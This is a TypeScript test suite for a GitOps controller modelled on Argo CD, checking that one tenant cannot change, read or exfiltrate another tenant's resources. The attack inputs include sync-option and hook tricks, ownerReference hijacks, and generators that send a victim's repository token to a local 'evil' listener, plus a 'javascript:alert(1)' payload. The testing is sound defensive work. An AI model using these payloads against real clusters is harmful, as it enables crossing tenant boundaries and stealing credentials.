import { createServer, type Server } from "node:http";
import { SetController } from "../../server/agent/appset/controller.ts";
import { APPLICATION_SET } from "../../server/agent/appset/reconcile/reconcile.ts";
import type { Application } from "../../server/agent/controller/application.ts";
import { TENANT } from "../../server/agent/project/tenant.ts";
import type { KubeObject } from "../../server/kube/object.ts";
import { RESOURCES } from "../../server/kube/path.ts";
import { CONFIG_MAP, configMap, synced, value, type World, world } from "../journeys/engine-world.ts";
import { A, B, OWN } from "./tenant-tricks.ts";
import { shareEverything } from "./tenant-world.ts";

// Both tenants may do everything in the cluster, and a's application has a ConfigMap, its namespace and a hook. Every way to name these in b's Git, with
// every option by which a sync writes, replaces, orders, prunes or deletes: nothing of a's changes, while b syncs and when b's applications end.
const CANARY = "canary-of-a";
const ATTACK = { "attack.test/is": "true" };
const SYNC = "argocd.argoproj.io/sync-options";
const HOOK = "argocd.argoproj.io/hook";
const POLICY = "argocd.argoproj.io/hook-delete-policy";

const on = (annotations: Record<string, string>) =>
  configMap("app", { text: "b" }, `, namespace: team-a, annotations: ${JSON.stringify(annotations)}`);
const CONTENTS: [string, string][] = [
  ["as it is", on({})],
  ["replaced by force", on({ [SYNC]: "Replace=true,Force=true" })],
  ["pruned last", on({ [SYNC]: "PruneLast=true,Prune=confirm" })],
  ["applied on the client's side", on({ [SYNC]: "ServerSideApply=false,Validate=false" })],
  ["in the first wave", on({ "argocd.argoproj.io/sync-wave": "-9", [SYNC]: "Delete=true" })],
  ["as a hook that is deleted before it is made", on({ [HOOK]: "PreSync", [POLICY]: "BeforeHookCreation" })],
  ["as a hook that is deleted when it succeeds", on({ [HOOK]: "PostSync", [POLICY]: "HookSucceeded" })],
  ["as a hook of a failure", on({ [HOOK]: "SyncFail", [POLICY]: "HookFailed,HookSucceeded" })],
  ["as a hook of a deletion", on({ [HOOK]: "PreDelete,PostDelete", [POLICY]: "BeforeHookCreation,HookSucceeded" })],
  ["as Helm's hook", on({ "helm.sh/hook": "pre-install,post-delete", "helm.sh/hook-delete-policy": "hook-succeeded" })],
  ["that is kept", on({ "helm.sh/resource-policy": "keep", "argocd.argoproj.io/compare-options": "IgnoreExtraneous" })],
  [
    "a's hook as a hook",
    configMap(
      "hook",
      { text: "b" },
      `, namespace: team-a, annotations: {${HOOK}: PreSync, ${POLICY}: "BeforeHookCreation,HookSucceeded"}`,
    ),
  ],
  [
    "a's namespace",
    `apiVersion: v1\nkind: Namespace\nmetadata: {name: team-a, labels: {owned: b}, annotations: {${SYNC}: "Replace=true"}}\n`,
  ],
  [
    "b's object that a's object is to own",
    configMap(
      "owned",
      {},
      `, ownerReferences: [{apiVersion: v1, kind: ConfigMap, name: app, uid: UID, controller: true}]`,
    ),
  ],
];
const policy = (options: string[], more: object = {}) => ({
  syncPolicy: {
    automated: { prune: true, selfHeal: true, allowEmpty: true },
    retry: { limit: 0 },
    syncOptions: ["PrunePropagationPolicy=background", ...options],
    ...more,
  },
});
const TO_A = { destination: { name: "in-cluster", namespace: "team-a" } };
const OPTIONS: [string, object][] = [
  ["no option", policy([])],
  ["Replace", policy(["Replace=true"])],
  ["Force", policy(["Replace=true", "Force=true"])],
  ["PruneLast", policy(["PruneLast=true", "ApplyOutOfSyncOnly=true"])],
  ["client side", policy(["ServerSideApply=false", "Validate=false", "SkipDryRunOnMissingResource=true"])],
  [
    "ignored differences",
    {
      ...policy(["RespectIgnoreDifferences=true"]),
      ignoreDifferences: [
        {
          group: "*",
          kind: "*",
          jqPathExpressions: [".metadata", ".data"],
          managedFieldsManagers: ["argocd-controller"],
        },
      ],
    },
  ],
  ["a's namespace as its own", { ...TO_A, ...policy(["CreateNamespace=true"]) }],
  [
    "the metadata of a's namespace",
    {
      ...TO_A,
      ...policy(["CreateNamespace=true"], {
        managedNamespaceMetadata: { labels: { owned: "b" }, annotations: { "argocd.argoproj.io/tracking-id": "b" } },
      }),
    },
  ],
  [
    "words for people",
    { ...policy([]), info: [{ name: "url", value: "javascript:alert(1)" }], revisionHistoryLimit: 0 },
  ],
];

let w: World;
let evil: { url: string; heard: string[]; server: Server };
beforeAll(async () => {
  [w, evil] = await Promise.all([world(), listener()]);
  await shareEverything(w);
  const files = {
    "a.yaml": configMap("app", { text: CANARY, rev: "1" }),
    "hook.yaml": configMap(
      "hook",
      { text: CANARY },
      `, annotations: {${HOOK}: PreSync, ${POLICY}: BeforeHookCreation}`,
    ),
    "ns.yaml": "apiVersion: v1\nkind: Namespace\nmetadata: {name: team-a, labels: {owned: a}}\n",
  };
  await w.git.createRepository("a/code", { files, users: { ana: "A-PASSWORD" } });
  const labels = { "argocd.argoproj.io/secret-type": "repository" };
  const metadata = { name: "repo-code-a", namespace: OWN, labels, annotations: { [TENANT]: A } };
  const stringData = { url: w.git.cloneUrl("a/code"), username: "ana", password: "A-PASSWORD" };
  value(await w.client.create(RESOURCES.secret, { apiVersion: "v1", kind: "Secret", metadata, stringData }));
  const victim = { repo: "a/code", project: "limit", ...TO_A };
  await w.app("victim", victim, { annotations: { [TENANT]: A } });
  await w.until("victim", synced, "Synced");
}, 120_000);
afterAll(async () => {
  evil?.server.close();
  await w?.stop();
}, 60_000);

async function listener() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(JSON.stringify([request.method, request.url, request.headers]));
    response.writeHead(200, { "content-type": "application/json" }).end("[]");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, heard, server };
}

/** What a's application has, to the last field that anybody could write. */
async function standing(): Promise<string[]> {
  const objects = [
    await w.object(CONFIG_MAP, "team-a", "app"),
    await w.object(CONFIG_MAP, "team-a", "hook"),
    await w.object(RESOURCES.namespace, undefined, "team-a"),
    await w.object(RESOURCES.secret, OWN, "repo-code-a"),
  ];
  return objects.map((one) => JSON.stringify([one?.metadata, one?.data]));
}
const attacks = async () =>
  value(await w.client.list(RESOURCES.application, { labelSelector: "attack.test/is=true" })).items as Application[];
const isJudged = ({ status }: Application) =>
  /^(Failed|Error|Succeeded)$/.test(status?.operationState?.phase ?? "") ||
  (status?.conditions ?? []).some(({ type }) => /Error$|SharedResourceWarning|SyncBlocked/.test(type));
/** Deletes b's applications. One whose deletion hook is a's object does not end: it says so, and is let go here. */
async function removeAll(): Promise<void> {
  for (const { metadata } of await attacks())
    value(await w.client.delete(RESOURCES.application, OWN, metadata.name, {}));
  const isStuck = ({ status }: Application) => (status?.conditions ?? []).some(({ type }) => type === "DeletionError");
  await w.settled(async () => (await attacks()).every(isStuck), "gone or refused");
  for (const { metadata } of await attacks()) {
    expect(metadata.annotations?.["attack.test/tricks"]).toMatch(/^as (a hook of a deletion|Helm's hook)/);
    const patch = { metadata: { finalizers: null } };
    value(await w.client.mergePatch(RESOURCES.application, OWN, metadata.name, patch));
  }
  await w.settled(async () => (await attacks()).length === 0, "without attacks");
}

test("no option of an application or an object changes, prunes or deletes what another tenant's application has", async () => {
  const uid = (await w.object(CONFIG_MAP, "team-a", "app"))!.metadata.uid!;
  for (const [i, [, manifest]] of CONTENTS.entries())
    await w.git.createRepository(`b/${i}`, {
      files: { "x.yaml": manifest.replace("UID", uid), "y.yaml": configMap(`side-${i}`, {}) },
    });
  const before = await standing();
  const finalizers = ["resources-finalizer.argocd.argoproj.io/background"];
  let count = 0;
  for (const [i, [what]] of CONTENTS.entries())
    for (const [how, spec] of OPTIONS) {
      const annotations = {
        [TENANT]: B,
        "attack.test/tricks": `${what} + ${how}`,
        "notifications.argoproj.io/subscribe.on-deployed.webhook": evil.url,
        "argocd.argoproj.io/refresh": "hard",
      };
      await w.app(
        `attack-${count++}`,
        {
          project: "limit",
          repo: `b/${i}`,
          destination: { name: "in-cluster", namespace: "team-b" },
          ...spec,
        },
        { labels: ATTACK, annotations, finalizers },
      );
    }
  expect(count).toBeGreaterThanOrEqual(120);
  await w.settled(async () => (await attacks()).every(isJudged), "judged");
  expect(await standing()).toEqual(before);
  const told = JSON.stringify((await attacks()).map(({ status }) => status));
  expect([told.includes(CANARY), told.includes("victim")]).toEqual([false, false]);
  await removeAll();
  expect(await standing()).toEqual(before);
  expect(evil.heard).toEqual([]);
}, 400_000);

const rejects = async (name: string, sources: (at: string) => object[]) => {
  const spec = { project: "limit", destination: { name: "in-cluster", namespace: "team-b" }, source: undefined };
  await w.app(
    name,
    { ...spec, sources: sources(w.git.cloneUrl("a/code")) as never },
    { labels: ATTACK, annotations: { [TENANT]: B } },
  );
};
test("no second source, values file or file parameter reads another tenant's repository", async () => {
  const chart = {
    "Chart.yaml": "apiVersion: v2\nname: c\nversion: 1.0.0\n",
    "templates/a.yaml": configMap("c", { text: "{{ toJson .Values }}" }),
  };
  await w.git.createRepository("b/chart", { files: chart });
  const own = (helm: object) => ({ repoURL: w.git.cloneUrl("b/chart"), path: ".", targetRevision: "main", helm });
  const ref = (repoURL: string) => ({ repoURL, targetRevision: "main", ref: "theirs" });
  const forms: ((at: string) => object[])[] = [
    (at) => [own({ valueFiles: ["$theirs/a.yaml"] }), ref(at)],
    (at) => [own({ fileParameters: [{ name: "x", path: "$theirs/a.yaml" }] }), ref(at)],
    (at) => [own({ valueFiles: ["$theirs/../a.yaml"], ignoreMissingValueFiles: true }), ref(at)],
    (at) => [
      own({ valueFiles: [`git+${at}/a.yaml`, at], ignoreMissingValueFiles: true }),
      ref(at.replace(/\.git$/, "")),
    ],
    (at) => [ref(at.replace("://", "://ana@")), own({ valueFiles: ["$theirs/a.yaml"] })],
  ];
  for (const [i, form] of forms.entries()) await rejects(`attack-source-${i}`, form);
  await w.settled(async () => (await attacks()).length === forms.length && (await attacks()).every(isJudged), "judged");
  for (const { status } of await attacks()) {
    expect(JSON.stringify(status)).not.toContain(CANARY);
    expect(status?.operationState?.phase).not.toBe("Succeeded");
  }
  await removeAll();
}, 120_000);

// Each generator names something of a's: its repository, its Secret as a token, its clusters, a plugin with its token.
const token = { secretName: "repo-code-a", key: "password" };
const generators = (at: string): Record<string, object>[] => [
  { git: { repoURL: at, revision: "main", directories: [{ path: "*" }] } },
  { git: { repoURL: at, revision: "main", files: [{ path: "**/*.yaml" }] } },
  { clusters: { selector: { matchExpressions: [] } } },
  { scmProvider: { gitea: { owner: "a", api: evil.url, tokenRef: token } } },
  { scmProvider: { github: { organization: "a", api: evil.url, tokenRef: token } } },
  { scmProvider: { gitlab: { group: "a", api: evil.url, tokenRef: token } } },
  { pullRequest: { github: { owner: "a", repo: "code", api: evil.url, tokenRef: token } } },
  { pullRequest: { gitlab: { project: "1", api: evil.url, tokenRef: token } } },
  { pullRequest: { gitea: { owner: "a", repo: "code", api: evil.url, tokenRef: token } } },
  { plugin: { configMapRef: { name: "plugin-of-b" }, input: { parameters: { a: "b" } } } },
];
const LIST = { list: { elements: [{ x: "1" }] } };
const NESTS: [string, (one: Record<string, object>) => object][] = [
  ["alone", (one) => one],
  ["in a matrix", (one) => ({ matrix: { generators: [LIST, one] } })],
  ["in a merge", (one) => ({ merge: { mergeKeys: ["x"], generators: [LIST, one] } })],
  [
    "in a matrix in a merge",
    (one) => ({ merge: { mergeKeys: ["x"], generators: [LIST, { matrix: { generators: [LIST, one] } }] } }),
  ],
  [
    "in a merge in a matrix",
    (one) => ({ matrix: { generators: [{ merge: { mergeKeys: ["x"], generators: [LIST, one] } }, LIST] } }),
  ],
];

test("no generator, in any nesting, shows or sends what is another tenant's", async () => {
  const metadata = { name: "plugin-of-b", namespace: OWN };
  const data = { baseUrl: evil.url, token: "$repo-code-a:password" };
  value(await w.client.create(CONFIG_MAP, { apiVersion: "v1", kind: "ConfigMap", metadata, data }));
  let count = 0;
  for (const one of [LIST, ...generators(w.git.cloneUrl("a/code"))])
    for (const [, nested] of NESTS) {
      const template = {
        metadata: {
          name: `attack-set-${count}-{{ toJson . | sha256sum | trunc 8 }}`,
          labels: ATTACK,
          annotations: { told: "{{ toJson . }}" },
        },
        spec: {
          project: "limit",
          source: { repoURL: "https://127.0.0.1:1/x.git", path: "." },
          destination: { name: "in-cluster", namespace: "team-b" },
        },
      };
      const set = { apiVersion: "argoproj.io/v1alpha1", kind: "ApplicationSet" };
      value(
        await w.client.create(APPLICATION_SET, {
          ...set,
          metadata: { name: `attack-${count++}`, namespace: OWN, labels: ATTACK, annotations: { [TENANT]: B } },
          spec: { goTemplate: true, generators: [nested(one)], template },
        } as KubeObject),
      );
    }
  const log = { info: () => {}, warn: () => {}, error: () => {}, debug: () => {} } as never;
  const access = (url: string, name: string | undefined, of: string | undefined) =>
    w.controller.deps.repositories.find(url, name, of);
  const sets = new SetController({ home: w.client, namespace: OWN, repo: w.repo, access, log });
  await sets.start();
  try {
    const list = async () =>
      value(await w.client.list(APPLICATION_SET, { namespace: OWN, labelSelector: "attack.test/is=true" })).items;
    const told = ({ status }: KubeObject) =>
      ((status as { conditions?: unknown[] } | undefined)?.conditions ?? []).length > 0;
    await w.settled(async () => (await list()).every(told), "every set has said what became of it");
    const shown = JSON.stringify(
      [await list(), await attacks()].map((all) =>
        all.map(({ status, metadata: { annotations } }) => [status, annotations?.told]),
      ),
    );
    expect(
      [CANARY, "A-PASSWORD", Buffer.from("A-PASSWORD").toString("base64")].filter((text) => shown.includes(text)),
    ).toEqual([]);
    expect(
      evil.heard.filter(
        (text) => text.includes("A-PASSWORD") || text.includes(Buffer.from("A-PASSWORD").toString("base64")),
      ),
    ).toEqual([]);
    expect(count).toBe(55);
    // Those of lists alone, nested or not, are made: what is refused is not everything.
    expect((await attacks()).filter(({ metadata }) => metadata.name.startsWith("attack-set-")).length).toBeGreaterThan(
      0,
    );
  } finally {
    await sets.stop();
  }
}, 240_000);
